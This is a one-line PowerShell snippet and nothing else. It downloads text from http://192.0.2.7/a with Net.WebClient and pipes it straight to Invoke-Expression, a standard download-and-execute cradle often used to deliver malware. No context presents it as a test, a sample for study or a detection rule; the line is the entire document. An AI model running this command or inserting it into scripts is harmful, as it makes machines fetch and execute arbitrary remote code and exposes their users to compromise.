$code = (New-Object Net.WebClient).DownloadString("http://192.0.2.7/a") | iex
